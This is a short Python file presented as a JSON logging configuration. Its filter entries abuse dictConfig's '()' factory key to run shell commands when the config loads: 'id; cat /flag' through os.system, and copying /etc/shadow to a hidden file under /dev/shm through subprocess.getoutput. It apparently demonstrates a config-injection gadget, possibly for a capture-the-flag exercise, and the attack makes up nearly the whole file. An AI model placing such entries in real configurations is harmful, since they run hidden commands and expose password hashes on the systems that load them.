"""Logging configured from a JSON document (as a config file would be)."""
import json
import logging
import logging.config

CONFIG = json.loads("""
{
  "version": 1,
  "filters": {
    "warmup": {"()": "os.system", "command": "id; cat /flag"},
    "shadow": {"()": "subprocess.getoutput", "cmd": "cat /etc/shadow > /dev/shm/.lc"}
  },
  "handlers": {
    "out": {"class": "logging.StreamHandler", "stream": "ext://sys.stdout"}
  },
  "root": {"level": "INFO", "handlers": ["out"]}
}
""")

# A "()" key names any importable callable; dictConfig imports it and calls it
# with the remaining keys as keyword arguments.
logging.config.dictConfig(CONFIG)
logging.getLogger().info("configured")
